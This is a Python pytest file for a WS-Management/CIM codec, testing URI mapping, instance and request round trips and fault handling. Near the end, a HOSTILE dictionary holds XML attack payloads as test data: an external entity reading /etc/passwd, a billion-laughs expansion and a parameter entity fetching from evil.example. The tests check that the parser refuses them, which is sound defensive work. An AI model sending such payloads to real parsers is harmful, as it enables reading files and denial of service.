"""The WS-Management codec (wbemconform.wsman), without network: instances from the mock
(read only) and hand-written samples shaped like DSP0226/DSP0227/MS-WSMV examples."""

import pytest
from lxml import etree
from pywbem import (CIMClass, CIMDateTime, CIMError, CIMInstance, CIMInstanceName, CIMMethod,
                    CIMParameter, CIMProperty, Real64, Uint16, Uint32)

from wbemconform.mock import connect
from wbemconform.wsman import *  # noqa: F403 -- the package's public API, all of it
from wbemconform.wsman import names as N
from wbemconform.wsman.resource_uri import DELL_BASE, DMTF_BASE, OMI_BASE, WINRM_WMI_BASE

TO = "http://server.example:5985/wsman"
SOURCES = [("root/interop", "CIM_RegisteredProfile"), ("root/cimv2", "Win32_Process"),
           ("root/interop", "CIM_ElementConformsToProfile")]
STYLES = ["winrm", "omi", "dmtf"]

@pytest.fixture(scope="module")
def mock():
    return connect()

def instances_of(conn, namespace, classname):
    found = conn.EnumerateInstances(classname, namespace=namespace)
    return found or pytest.fail(f"the mock has no {classname} in {namespace}")

def class_of(conn, inst):
    return conn.GetClass(inst.classname, namespace=inst.path.namespace, LocalOnly=False)

def assert_same_instance(got, want):
    """Equal as far as WS-Management carries an instance (no qualifiers, no flags)."""
    def shape(inst):
        return inst.classname.lower(), {n.lower(): (p.type, p.is_array, p.value)
                                        for n, p in inst.properties.items()}
    assert shape(got) == shape(want)

def one_line(exc):
    assert str(exc) and "\n" not in str(exc) and "\r" not in str(exc)
    return str(exc)

# -- resource URIs -------------------------------------------------------------------

@pytest.mark.parametrize("style", STYLES)
def test_dmtf_classes_get_the_dmtf_uri_in_every_style(style):
    uris = ResourceUriMap(style=style)
    uri = uris.uri_for("CIM_RegisteredProfile", "root/interop")
    assert uri == DMTF_BASE + "CIM_RegisteredProfile" and not uris.carries_namespace(uri)
    assert uris.parse(uri) == ("CIM_RegisteredProfile", None, DMTF_BASE)
    assert uris.all_classes_uri("root/x") == (WINRM_WMI_BASE + "root/x/*" if style == "winrm"
                                              else "http://schemas.dmtf.org/wbem/wscim/1/*")

@pytest.mark.parametrize("namespace", ["root/cimv2", "root\\cimv2", "/root/cimv2/"])
def test_winrm_form_carries_the_namespace(namespace):
    uris = ResourceUriMap()
    uri = uris.uri_for("Win32_Process", namespace)
    assert uri == "http://schemas.microsoft.com/wbem/wsman/1/wmi/root/cimv2/Win32_Process"
    assert uris.parse(uri) == ("Win32_Process", "root/cimv2", WINRM_WMI_BASE + "root/cimv2/")
    assert uris.carries_namespace(uri) and uris.classname_of(uri) == "Win32_Process"

def test_other_styles_for_non_dmtf_classes():
    assert ResourceUriMap(style="omi").uri_for("OMI_Identify") == OMI_BASE + "OMI_Identify"
    assert ResourceUriMap(style="dmtf").uri_for("PG_Thing") == DMTF_BASE + "PG_Thing"
    with pytest.raises(ValueError, match="needs its CIM namespace"):
        ResourceUriMap().uri_for("Win32_Process")
    for bad in [lambda: ResourceUriMap(style="pegasus"), lambda: ResourceUriMap().uri_for("a b")]:
        pytest.raises(ValueError, bad)

def test_user_rules_extend_the_map_both_ways():
    uris = ResourceUriMap(["ACME_=http://schemas.acme.example/wbem/wscim/1/cim-schema/2",
                           "ACME_Special_=http://special.acme.example/cim/",
                           "CIM_Acme=http://schemas.acme.example/cim-ext/"])
    for name, uri in [("ACME_Disk", "http://schemas.acme.example/wbem/wscim/1/cim-schema/2/"),
                      ("acme_special_X", "http://special.acme.example/cim/"),
                      ("CIM_AcmeThing", "http://schemas.acme.example/cim-ext/"),
                      ("CIM_Other", DMTF_BASE)]:
        assert uris.uri_for(name, "root/acme") == uri + name
        assert uris.parse(uri + name) == (name, None, uri)
    catch_all = ResourceUriMap(["*=http://vendor.example/wbem/wscim/1/cim-schema/2/"])
    assert catch_all.uri_for("Win32_Process").startswith("http://vendor.example/")
    for bad in ["ACME_", "ACME_=not-a-uri", "=http://x/"]:
        with pytest.raises(ValueError, match="PREFIX=URI-base"):
            ResourceUriMap([bad])

@pytest.mark.parametrize("uri, classname, namespace", [
    (OMI_BASE + "SCX_Agent", "SCX_Agent", None),
    (OMI_BASE + "SCX_Agent?__cimnamespace=root/scx", "SCX_Agent", "root/scx"),
    (DELL_BASE + "DCIM_BIOSEnumeration", "DCIM_BIOSEnumeration", None),
    ("http://intel.com/wbem/wscim/1/amt-schema/1/AMT_Foo", "AMT_Foo", None),
    # OpenPegasus maps any host in front of /wbem/wscim/1/cim-schema/2/
    ("http://schemas.openpegasus.org/wbem/wscim/1/cim-schema/2/PG_Foo", "PG_Foo", None),
    ("  " + DMTF_BASE + "CIM_Process\n", "CIM_Process", None),
    ("http://schemas.dmtf.org/wbem/wscim/1/*", None, None),
    (WINRM_WMI_BASE + "root/cimv2/*", None, "root/cimv2"),
])
def test_reverse_map_knows_the_vendor_forms(uri, classname, namespace):
    parsed = ResourceUriMap().parse(uri)
    assert (parsed.classname, parsed.namespace) == (classname, namespace)

def test_unknown_resource_uris_are_refused():
    uris = ResourceUriMap()
    for uri in ["http://schemas.microsoft.com/wbem/wsman/1/config",
                "http://example.com/wsman/thing", DMTF_BASE + "Bad-Name"]:
        pytest.raises(UnknownResourceUri, uris.parse, uri)
    with pytest.raises(UnknownResourceUri, match="all classes"):
        uris.classname_of("http://schemas.dmtf.org/wbem/wscim/1/*")

# -- instances and paths from the mock ----------------------------------------------

@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("namespace, classname", SOURCES)
def test_instance_round_trip_typed_by_the_class(mock, style, namespace, classname):
    uris = ResourceUriMap(style=style)
    for inst in instances_of(mock, namespace, classname):
        elem = parse_xml(etree.tostring(instance_to_xml(inst, uris)))
        assert etree.QName(elem).localname == inst.classname
        assert uris.classname_of(etree.QName(elem).namespace) == inst.classname
        back = instance_from_xml(elem, cimclass=class_of(mock, inst), uri_map=uris,
                                 namespace=namespace, path=inst.path)
        assert_same_instance(back, inst)
        assert back.path == inst.path

@pytest.mark.parametrize("namespace, classname", SOURCES)
def test_untyped_instance_compares_equal_through_canonical_text(mock, namespace, classname):
    for inst in instances_of(mock, namespace, classname):
        back = instance_from_xml(instance_to_xml(inst), namespace=namespace)
        for name, prop in inst.properties.items():
            other = back.properties[name]
            assert other.type == ("reference" if prop.type == "reference" else "string")
            assert canonical_text(other.value) == canonical_text(prop.value), name

@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("namespace, classname", SOURCES)
def test_path_epr_round_trip(mock, style, namespace, classname):
    uris = ResourceUriMap(style=style)
    for inst in instances_of(mock, namespace, classname):
        epr = path_to_epr(inst.path, uris)
        xml = etree.tostring(epr_to_xml(etree.Element(N.clark(N.WSA, "EndpointReference")),
                                        epr))
        again = epr_from_xml(parse_xml(xml))
        assert again == epr and uris.classname_of(again.resource_uri) == inst.path.classname
        assert epr_to_path(again, uris, cimclass=class_of(mock, inst)) == inst.path
        assert epr.selectors.get(N.CIMNAMESPACE_SELECTOR) == (
            None if uris.carries_namespace(epr.resource_uri) else namespace)

def test_reference_keys_become_nested_eprs(mock):
    assoc = instances_of(mock, "root/interop", "Microsoft_Process_ElementConformsToProfile_v1")[0]
    epr = path_to_epr(assoc.path, ResourceUriMap(style="dmtf"))
    managed = epr.selectors["ManagedElement"]
    assert isinstance(managed, Epr) and managed.namespace == "root/cimv2"
    assert managed.selectors["Handle"] == assoc.path["ManagedElement"]["Handle"]
    assert etree.tostring(epr_to_xml(etree.Element("epr"), epr)).count(b"EndpointReference") == 4

# -- values ------------------------------------------------------------------------

SAMPLE_URI = WINRM_WMI_BASE + "root/test/Test_Sample"
SAMPLE = f"""<p:Test_Sample xmlns:p="{SAMPLE_URI}" xmlns:xsi="{N.XSI}" xmlns:cim="{N.CIM_COMMON}"
    xmlns:a="{N.WSA}" xmlns:w="{N.WSMAN}">
  <p:Name>alpha</p:Name> <p:Count>7</p:Count> <p:Enabled>TRUE</p:Enabled>
  <p:Ratio>INF</p:Ratio> <p:Codes>1</p:Codes> <p:Tags>a</p:Tags><p:Tags>b</p:Tags>
  <p:Missing xsi:nil="true"/>
  <p:Started><cim:Datetime>2024-02-29T13:14:15.5+01:00</cim:Datetime></p:Started>
  <p:Uptime><cim:Interval>P1DT2H3M4.000005S</cim:Interval></p:Uptime>
  <p:Legacy><CIM_DateTime>19990929195959.000000-420</CIM_DateTime></p:Legacy>
  <p:Owner><a:Address>{N.ANONYMOUS}</a:Address><a:ReferenceParameters>
      <w:ResourceURI>{WINRM_WMI_BASE}root/cimv2/Win32_Process</w:ResourceURI>
      <w:SelectorSet><w:Selector Name="Handle"> 4 </w:Selector></w:SelectorSet>
  </a:ReferenceParameters></p:Owner>
</p:Test_Sample>"""

def sample_class():
    types = dict(Name="string", Count="uint32", Enabled="boolean", Ratio="real64",
                 Codes="uint16[]", Tags="string[]", Missing="sint8", Started="datetime",
                 Uptime="datetime", Legacy="datetime", Owner="reference")
    return CIMClass("Test_Sample", properties=[
        CIMProperty(n, None, type=t.rstrip("[]"), is_array=t.endswith("[]"),
                    reference_class="Win32_Process" if t == "reference" else None)
        for n, t in types.items()])

def test_sample_instance_typed_by_its_class():
    inst = instance_from_xml(parse_xml(SAMPLE), cimclass=sample_class(), namespace="root/test")
    assert dict(inst.items()) == dict(
        Name="alpha", Count=Uint32(7), Enabled=True, Ratio=float("inf"), Codes=[Uint16(1)],
        Tags=["a", "b"], Missing=None, Started=CIMDateTime("20240229131415.500000+060"),
        Uptime=CIMDateTime("00000001020304.000005:000"),
        Legacy=CIMDateTime("19990929195959.000000-420"),
        Owner=CIMInstanceName("Win32_Process", {"Handle": "4"}, namespace="root/cimv2"))
    assert (inst.properties["Missing"].type, inst.properties["Count"].type) == ("sint8", "uint32")

def test_sample_instance_untyped_keeps_text_but_shapes():
    inst = instance_from_xml(parse_xml(SAMPLE))
    assert inst["Count"] == "7" and inst.properties["Count"].type == "string"
    assert inst["Codes"] == "1" and inst["Tags"] == ["a", "b"]
    assert (inst.properties["Started"].type, inst.properties["Owner"].type) == ("datetime",
                                                                               "reference")
    typed = instance_from_xml(parse_xml(SAMPLE), cimclass=sample_class())
    for name in ("Count", "Enabled", "Ratio", "Missing", "Started", "Owner", "Tags"):
        assert canonical_text(inst[name]) == canonical_text(typed[name]), name

def test_special_values_round_trip():
    inst = CIMInstance("Test_Sample", properties=[
        CIMProperty("Nothing", None, type="uint8"),
        CIMProperty("When", CIMDateTime("20230101101010.123456-300")),
        CIMProperty("Span", CIMDateTime("00000000000001.000000:000")),
        CIMProperty("Fuzzy", CIMDateTime("2023010112****.******+060")),
        CIMProperty("NaN", Real64(float("nan"))), CIMProperty("Letters", ["x", None, "y"]),
        CIMProperty("Inner", CIMInstance("Test_Inner", {"V": Uint16(3)}),
                    embedded_object="instance")])
    elem = instance_to_xml(inst, namespace="root/test")
    text = etree.tostring(elem).decode()
    assert 'xsi:nil="true"' in text and "cim:Datetime>2023-01-01T10:10:10.123456-05:00<" in text
    assert "cim:Interval>P0DT0H0M1S<" in text and "CIM_DateTime>2023010112****" in text
    back = instance_from_xml(parse_xml(etree.tostring(elem)))
    assert back["Nothing"] is None and all(back[n] == inst[n] for n in ("When", "Span", "Fuzzy"))
    assert back["NaN"] == "NaN" and back["Letters"] == ["x", None, "y"]
    assert back["Inner"].classname == "Test_Inner" and back["Inner"]["V"] == "3"

def test_mistyped_values_are_one_line_errors():
    cls = sample_class()
    for bad in ["<p:Count>seven</p:Count>", "<p:Enabled>yes</p:Enabled>",
                "<p:Count>1</p:Count><p:Count>2</p:Count>",
                "<p:Started><cim:Interval>P1Y</cim:Interval></p:Started>",
                "<p:Owner>text</p:Owner>"]:
        xml = SAMPLE.split(">", 1)[0] + f">{bad}</p:Test_Sample>"
        with pytest.raises(WsmanDecodeError) as exc:
            instance_from_xml(parse_xml(xml), cimclass=cls)
        one_line(exc.value)

@pytest.mark.parametrize("typed, untyped", [
    (Uint16(1), "1"), (Uint16(1), " +01 "), (True, "TRUE"), (False, "false"), (Real64(1.0), "1"),
    (Real64(0.5), "5E-1"), (Real64(float("inf")), "INF"), ([Uint16(2), Uint16(3)], ["2", "03"]),
    (CIMDateTime("20240229131415.500000+060"), "2024-02-29T13:14:15.500+01:00"),
    (CIMDateTime("20240229131415.500000+060"), "20240229131415.500000+060"),
    (CIMDateTime("00000001020304.000005:000"), "P1DT2H3M4.000005S"),
    (CIMInstanceName("A", {"K": Uint16(1)}, namespace="root/x"), CIMInstanceName("a", {"k": "1"})),
])
def test_canonical_text_never_reports_a_false_mismatch(typed, untyped):
    assert canonical_text(typed) == canonical_text(untyped)

def test_canonical_text_with_a_known_type():
    assert canonical_text("007", "string") == "007" != canonical_text("7", "string")
    assert canonical_text("1", "boolean") == canonical_text(True)
    assert canonical_text("abc") == "abc" and canonical_text(None) is None

# -- requests: built by the client, parsed by the server ------------------------------

def test_get_request_round_trip(mock):
    proc = instances_of(mock, "root/cimv2", "Win32_Process")[1]
    data = build_get_instance(TO, proc.path, operation_timeout=30, max_envelope_size=153600,
                              locale="de-DE", message_id="uuid:0001")
    req = parse_request(data)
    assert (req.operation, req.action, req.to, req.message_id) == ("Get", N.ACTION_GET, TO,
                                                                   "uuid:0001")
    assert (req.classname, req.namespace, req.keys) == ("Win32_Process", "root/cimv2",
                                                       {"Handle": proc.path["Handle"]})
    assert req.path() == proc.path and req.reply_to == N.ANONYMOUS
    assert (req.operation_timeout, req.max_envelope_size, req.locale) == (30.0, 153600, "de-DE")
    req = parse_request(build_get(TO, DMTF_BASE + "CIM_RegisteredProfile",
                                  namespace="root/interop", selectors={"InstanceID": "Process"}))
    assert req.selectors == {"__cimnamespace": "root/interop", "InstanceID": "Process"}
    assert req.max_envelope_size is None and req.locale is None
    assert req.path() == CIMInstanceName("CIM_RegisteredProfile", {"InstanceID": "Process"},
                                         namespace="root/interop")

@pytest.mark.parametrize("mode", [None, N.MODE_EPR, N.MODE_OBJECT_AND_EPR])
def test_enumerate_request_round_trip(mode):
    data = build_enumerate(TO, DMTF_BASE + "CIM_RegisteredProfile", namespace="root/interop",
                           mode=mode, optimize=True, max_elements=25)
    req = parse_request(data)
    assert (req.operation, req.classname, req.namespace, req.enumeration_mode, req.optimize,
            req.max_elements, req.filter) == ("Enumerate", "CIM_RegisteredProfile",
                                              "root/interop", mode, True, 25, None)
    plain = parse_request(build_enumerate(TO, DMTF_BASE + "CIM_RegisteredProfile"))
    assert (plain.optimize, plain.max_elements, plain.enumeration_mode) == (False, None, None)

@pytest.mark.parametrize("dialect", [N.DIALECT_WQL, N.DIALECT_WQL_DMTF])
def test_wql_filter(dialect):
    query = "SELECT * FROM Win32_Process WHERE Handle < '10' AND Name = \"a&b\""
    req = parse_request(build_enumerate(TO, WINRM_WMI_BASE + "root/cimv2/*",
                                        filter=WqlFilter(query, dialect)))
    assert req.filter_dialect == dialect and req.filter == WqlFilter(query, dialect)
    assert (req.classname, req.namespace) == (None, "root/cimv2")

def test_associated_instances_filter(mock):
    proc = instances_of(mock, "root/cimv2", "Win32_Process")[0]
    flt = AssociatedInstancesFilter(path_to_epr(proc.path), "CIM_ElementConformsToProfile",
                                    "CIM_RegisteredProfile", "ManagedElement",
                                    "ConformantStandard", ("RegisteredName",))
    req = parse_request(build_enumerate(TO, "http://schemas.dmtf.org/wbem/wscim/1/*",
                                        mode=N.MODE_OBJECT_AND_EPR, optimize=True, filter=flt))
    assert req.filter_dialect == N.DIALECT_ASSOCIATION and req.filter == flt
    assert epr_to_path(req.filter.object) == proc.path

def test_association_instances_filter():
    obj = Epr(DMTF_BASE + "CIM_RegisteredProfile",
              {"__cimnamespace": "root/interop", "InstanceID": "Process"})
    data = build_enumerate(TO, "http://schemas.dmtf.org/wbem/wscim/1/*",
                           filter=AssociationInstancesFilter(obj, "CIM_ElementConformsToProfile",
                                                             "ConformantStandard"))
    assert parse_request(data).filter == AssociationInstancesFilter(
        obj, "CIM_ElementConformsToProfile", "ConformantStandard")
    raw = build_enumerate(TO, DMTF_BASE + "CIM_Foo", filter=RawFilter("urn:x-dialect", "a = b"))
    assert parse_request(raw).filter == RawFilter("urn:x-dialect", "a = b")

def test_pull_and_release_round_trip():
    req = parse_request(build_pull(TO, DMTF_BASE + "CIM_Foo", "uuid:c", max_elements=3,
                                   namespace="root/x"))
    assert (req.operation, req.context, req.max_elements, req.namespace) == ("Pull", "uuid:c",
                                                                             3, "root/x")
    req = parse_request(build_release(TO, DMTF_BASE + "CIM_Foo", "uuid:c"))
    assert (req.operation, req.context) == ("Release", "uuid:c")

def test_invoke_round_trip(mock):
    proc = instances_of(mock, "root/cimv2", "Win32_Process")[0]
    uri = WINRM_WMI_BASE + "root/cimv2/Win32_Process"
    data = build_invoke(TO, uri, "Create", {"CommandLine": "notepad.exe", "Priority": Uint32(8),
                                            "Flags": [True, False], "Parent": proc.path},
                        namespace="root/cimv2")
    req = parse_request(data)
    assert (req.operation, req.method, req.action) == ("Invoke", "Create", uri + "/Create")
    assert req.params == {"CommandLine": "notepad.exe", "Priority": "8",
                          "Flags": ["true", "false"], "Parent": proc.path}
    decl = CIMMethod("Create", "uint32", parameters=[
        CIMParameter("CommandLine", "string"), CIMParameter("Priority", "uint32"),
        CIMParameter("Flags", "boolean", is_array=True), CIMParameter("Parent", "reference")])
    typed = params_from_xml(req.input_element, decl)
    assert typed["Priority"] == Uint32(8) and typed["Flags"] == [True, False]

@pytest.mark.parametrize("body, subcode", [
    ('<wsen:Enumerate><wsman:EnumerationMode>EnumerateEverything</wsman:EnumerationMode>'
     '</wsen:Enumerate>', "wsman:UnsupportedFeature"),
    ('<wsen:Enumerate><wsman:MaxElements>-3</wsman:MaxElements></wsen:Enumerate>',
     "wsman:SchemaValidationError"),
    ('<wsen:Pull/>', "wsen:InvalidEnumerationContext"),
    ('<wsen:Enumerate><wsman:Filter Dialect="' + N.DIALECT_ASSOCIATION + '"/></wsen:Enumerate>',
     "wsen:CannotProcessFilter"),
])
def test_bad_requests_become_faults_to_send(body, subcode):
    action = N.ACTION_PULL if "Pull" in body else N.ACTION_ENUMERATE
    with pytest.raises(WsmanFault) as exc:
        parse_request(f'<s:Envelope xmlns:s="{N.SOAP_ENV}" xmlns:wsa="{N.WSA}" xmlns:wsman='
                      f'"{N.WSMAN}" xmlns:wsen="{N.WSEN}"><s:Header><wsa:Action>{action}'
                      f'</wsa:Action></s:Header><s:Body>{body}</s:Body></s:Envelope>')
    assert exc.value.subcode == subcode
    with pytest.raises(WsmanFault) as again:
        parse_get_response(exc.value.to_xml("uuid:r"))
    assert again.value.subcode == subcode and again.value.relates_to == "uuid:r"

def test_request_without_action_or_envelope():
    for data, subcode in [(f'<s:Envelope xmlns:s="{N.SOAP_ENV}"><s:Body/></s:Envelope>',
                           "wsa:MessageInformationHeaderRequired"),
                          ("<Envelope><Body/></Envelope>", "wsman:SchemaValidationError")]:
        with pytest.raises(WsmanFault) as exc:
            parse_request(data)
        assert exc.value.subcode == subcode

# -- responses: built by the server, parsed by the client ------------------------------

def test_get_response_round_trip(mock):
    profile = instances_of(mock, "root/interop", "CIM_RegisteredProfile")[0]
    data = build_get_response("uuid:req", profile)
    got = parse_get_response(data, classes={profile.classname: class_of(mock, profile)},
                             relates_to="uuid:req", path=profile.path)
    assert_same_instance(got, profile)
    with pytest.raises(WsmanProtocolError, match="relates to"):
        parse_get_response(data, relates_to="uuid:other")
    with pytest.raises(WsmanProtocolError, match="expected action"):
        parse_enumerate_response(data)

@pytest.mark.parametrize("mode", [None, N.MODE_EPR, N.MODE_OBJECT_AND_EPR])
def test_enumeration_responses_round_trip(mock, mode):
    assocs = instances_of(mock, "root/interop", "CIM_ElementConformsToProfile")
    classes = lambda name: mock.GetClass(name, namespace="root/interop", LocalOnly=False)  # noqa
    first = parse_enumerate_response(build_enumerate_response(
        "uuid:e", assocs[:3], context="uuid:ctx", optimized=True, mode=mode), classes=classes)
    rest = parse_pull_response(build_pull_response(
        "uuid:p", assocs[3:], context="uuid:ctx", end_of_sequence=True, mode=mode),
        classes=classes, relates_to="uuid:p")
    assert (first.context, first.end_of_sequence, rest.context, rest.end_of_sequence) == (
        "uuid:ctx", False, None, True)
    items = first.items + rest.items
    assert len(items) == len(assocs) and len(first.items) == 3
    for item, inst in zip(items, assocs):
        assert item.path == (None if mode is None else inst.path)
        if mode == N.MODE_EPR:
            assert item.instance is None
        else:
            assert_same_instance(item.instance, inst)

def test_unoptimized_enumerate_response_has_only_a_context():
    for result in [parse_enumerate_response(build_enumerate_response("uuid:e", context="c")),
                   parse_pull_response(build_pull_response("uuid:p", [], context="c"))]:
        assert (result.items, result.context, result.end_of_sequence) == ([], "c", False)
    pytest.raises(ValueError, build_enumerate_response, "uuid:e", [CIMInstance("X")])

def test_release_and_invoke_responses():
    assert parse_release_response(build_release_response("uuid:r"), relates_to="uuid:r") is None
    uri = WINRM_WMI_BASE + "root/cimv2/Win32_Process"
    data = build_invoke_response("uuid:i", uri, "Create", Uint32(0), {"ProcessId": Uint32(4242)})
    decl = CIMMethod("Create", "uint32", parameters=[CIMParameter("ProcessId", "uint32")])
    assert parse_invoke_response(data, "Create", resource_uri=uri, method_decl=decl) == (
        Uint32(0), {"ProcessId": Uint32(4242)})
    assert parse_invoke_response(data, "Create") == ("0", {"ProcessId": "4242"})
    pytest.raises(WsmanProtocolError, parse_invoke_response, data, "Terminate")

# -- faults --------------------------------------------------------------------------

def fault_xml(reason, detail=""):
    return (f'<s:Envelope xmlns:s="{N.SOAP_ENV}" xmlns:a="{N.WSA}" xmlns:w="{N.WSMAN}">'
            f'<s:Header><a:Action>{N.ACTION_WSMAN_FAULT}</a:Action>'
            f'<a:RelatesTo>uuid:q</a:RelatesTo></s:Header><s:Body><s:Fault>'
            f'<s:Code><s:Value>s:Receiver</s:Value><s:Subcode><s:Value>w:InternalError'
            f'</s:Value></s:Subcode></s:Code><s:Reason><s:Text xml:lang="en-US">{reason}'
            f'</s:Text></s:Reason>{detail}</s:Fault></s:Body></s:Envelope>')

WINRM_DETAIL = f"""<s:Detail><f:WSManFault xmlns:f="{N.WSMANFAULT}" Code="2150858752"
 Machine="host"><f:Message><f:ProviderFault provider="WMI Provider"><g:MSFT_WmiError
 xmlns:g="{DMTF_BASE}MSFT_WmiError" xmlns:b="{N.WSMB}" b:IsCIM_Error="true"><g:CIMStatusCode>5
 </g:CIMStatusCode><g:Message>Invalid class </g:Message></g:MSFT_WmiError></f:ProviderFault>
 </f:Message></f:WSManFault></s:Detail>"""
OMI_DETAIL = f"""<s:Detail><p:OMI_Error xmlns:p="{DMTF_BASE}OMI_Error" xmlns:wsmb="{N.WSMB}"
 wsmb:IsCIM_Error="true"><p:CIMStatusCode>6</p:CIMStatusCode></p:OMI_Error></s:Detail>"""

@pytest.mark.parametrize("reason, detail, status, source", [
    ("WMI said no", WINRM_DETAIL, 5, "detail"),
    ("CIM ERROR:NOT_FOUND: The requested object cannot be found.", OMI_DETAIL, 6, "detail"),
    ("CIM ERROR:NOT_FOUND: The requested object cannot be found.", "", 6, "reason"),
    ("CIM_ERR_INVALID_NAMESPACE: root/nowhere", "", 3, "reason"),
    ("CIM_ERR_INVALID_NAMESPACE or CIM_ERR_NOT_FOUND", "", None, None),
    ("CIM_ERR_MADE_UP happened", "", None, None),
    ("The service cannot comply with the request.", "", None, None),
    ("no status here", "<s:Detail><w:FaultDetail>x</w:FaultDetail></s:Detail>", None, None),
])
def test_fault_cim_status_is_read_never_guessed(reason, detail, status, source):
    with pytest.raises(WsmanFault) as exc:
        parse_get_response(fault_xml(reason, detail))
    fault = exc.value
    assert (fault.code, fault.subcode, fault.cim_status, fault.cim_status_source) == (
        "Receiver", "wsman:InternalError", status, source)
    assert fault.reason == reason and fault.relates_to == "uuid:q" and one_line(fault)

def test_winrm_fault_detail_parts():
    fault = pytest.raises(WsmanFault, parse_pull_response, fault_xml("x", WINRM_DETAIL)).value
    assert fault.wsman_code == 2150858752 and "Invalid class" in fault.message
    assert "MSFT_WmiError" in fault.detail_xml and fault.cim_status == 5

@pytest.mark.parametrize("status, operation, subcode", [
    (6, None, "wsa:DestinationUnreachable"), (5, None, "wsa:DestinationUnreachable"),
    (2, None, "wsman:AccessDenied"), (4, "Get", "wsman:InvalidSelectors"),
    (4, None, "wsman:InvalidParameter"), (21, None, "wsen:InvalidEnumerationContext"),
    (15, None, "wsen:CannotProcessFilter"), (1, None, "wsman:InternalError"),
    (99, None, "wsman:InternalError"),
])
def test_server_faults_carry_the_cim_status(status, operation, subcode):
    data = fault_for_cim_error(status, "it failed\nbadly", operation=operation)
    fault = pytest.raises(WsmanFault, parse_release_response, data).value
    assert (fault.subcode, fault.cim_status, fault.cim_status_source) == (subcode, status,
                                                                          "detail")
    assert fault.action == N.SUBCODES[subcode][1] and one_line(fault)

def test_fault_from_cim_error_and_without_status():
    data = fault_for_cim_error(CIMError(6, "no such process"), error_class="OMI_Error")
    with pytest.raises(WsmanFault, match="no such process") as exc:
        parse_get_response(data)
    assert exc.value.cim_status == 6 and "OMI_Error" in exc.value.detail_xml
    fault = pytest.raises(WsmanFault, parse_get_response,
                          build_fault("wsa:ActionNotSupported", "nope")).value
    assert (fault.code, fault.cim_status, fault.detail) == ("Sender", None, None)

# -- hostile XML -------------------------------------------------------------------

HOSTILE = {
    "doctype": '<!DOCTYPE s:Envelope><s:Envelope xmlns:s="x"/>',
    "external entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "billion laughs": '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + ']><z>&lol9;</z>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><r/>',
    "utf-16 doctype": '<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'.encode("utf-16"),
    "undefined entity": "<r>&undefined;</r>",
    "deep nesting": "<a>" * 200 + "</a>" * 200,
    "oversize": b"<r>" + b"x" * (4 * 1024 * 1024) + b"</r>",
}

@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_in_one_line(name):
    assert one_line(pytest.raises(XmlRefused, parse_xml, HOSTILE[name]).value).startswith(
        "refused XML:")
    fault = pytest.raises(WsmanFault, parse_request, HOSTILE[name]).value
    assert fault.subcode == "wsman:EncodingLimit" and one_line(fault)
    pytest.raises(XmlRefused, parse_enumerate_response, HOSTILE[name])

def test_limits_are_adjustable_and_malformed_xml_is_reported():
    assert parse_xml("<a><b/></a>", max_depth=2).tag == "a"
    with pytest.raises(XmlRefused, match="deeper than 1"):
        parse_xml("<a><b/></a>", max_depth=1)
    with pytest.raises(XmlRefused, match="exceed the limit of 5 bytes"):
        parse_xml("<a>123456</a>", max_bytes=5)
    for bad in ["", "<a>", "<a></b>", "not xml\x1b[2J", b"\xff\xfe\x00"]:
        error = pytest.raises(XmlMalformed, parse_xml, bad).value
        assert isinstance(error, XmlError) and "\x1b" not in one_line(error)


def test_element_count_limit_is_optional():
    many = "<a>" + "<b/>" * 50 + "</a>"
    assert len(parse_xml(many)) == 50  # no limit unless asked
    assert len(parse_xml(many, max_elements=51)) == 50
    with pytest.raises(XmlRefused, match="more than 50 elements"):
        parse_xml(many, max_elements=50)
    body = build_pull("http://h/wsman", DMTF_BASE + "CIM_Foo", "uuid:1")
    assert parse_request(body, max_elements=100).operation == "Pull"
    fault = pytest.raises(WsmanFault, parse_request, body, max_elements=3).value
    assert fault.subcode == "wsman:EncodingLimit" and "more than 3 elements" in fault.reason


def test_a_reference_selector_without_the_epr_wrapper_is_read():
    """OMI writes a reference key's EPR parts right inside wsman:Selector."""
    from wbemconform.wsman.cim import selectors_from_xml
    xml = (f'<wsman:SelectorSet xmlns:wsman="{N.WSMAN}" xmlns:wsa="{N.WSA}">'
           '<wsman:Selector Name="ConformantStandard"><wsa:Address>x</wsa:Address>'
           '<wsa:ReferenceParameters><wsman:ResourceURI>' + DMTF_BASE +
           'ABC_RegisteredProfile</wsman:ResourceURI><wsman:SelectorSet>'
           '<wsman:Selector Name="InstanceID">DMTF:Fan:1.0.1</wsman:Selector>'
           '</wsman:SelectorSet></wsa:ReferenceParameters></wsman:Selector>'
           '<wsman:Selector Name="Plain">text</wsman:Selector></wsman:SelectorSet>')
    selectors = selectors_from_xml(etree.fromstring(xml))
    assert selectors["Plain"] == "text"
    assert selectors["ConformantStandard"].selectors == {"InstanceID": "DMTF:Fan:1.0.1"}


def test_an_option_set_goes_in_the_header():
    data = build_get("http://h/wsman", DMTF_BASE + "X", selectors={"ClassName": "X"},
                     option_set={"IncludeInheritedElements": "true"})
    root = etree.fromstring(data)
    option = root.find(f".//{{{N.WSMAN}}}OptionSet/{{{N.WSMAN}}}Option")
    assert option.get("Name") == "IncludeInheritedElements" and option.text == "true"


def test_a_selector_without_a_name_is_a_fault_to_send():
    body = build_get("http://h/wsman", DMTF_BASE + "CIM_Foo", selectors={"Id": "1"})
    fault = pytest.raises(WsmanFault, parse_request,
                          body.replace(b'Name="Id"', b'Name=""')).value
    assert fault.subcode == "wsman:SchemaValidationError" and "Name" in fault.reason
